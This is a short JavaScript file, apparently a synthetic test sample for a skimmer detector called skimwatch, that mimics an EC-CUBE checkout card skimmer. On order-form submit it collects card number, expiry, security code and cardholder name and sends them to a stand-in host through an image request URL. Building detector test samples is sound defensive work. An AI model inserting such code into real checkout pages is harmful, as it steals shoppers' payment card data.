// Synthetic EC-CUBE-style skimmer for skimwatch tests: the payment plugin's
// card fields (card_no, expire_month, security_code) are listed by name and
// go out in the URL of an image request.
(function () {
  var names = ["card_no", "expire_month", "expire_year", "security_code", "card_name"];
  var form = document.getElementById("shopping_order_form");
  if (!form) return;
  form.addEventListener("submit", function () {
    var v = names.map(function (n) {
      var el = document.getElementsByName(n)[0];
      return el ? el.value : "";
    }).join(";");
    new Image().src = "https://ec-img-cdn.example/p.gif?d=" + encodeURIComponent(v);
  });
})();
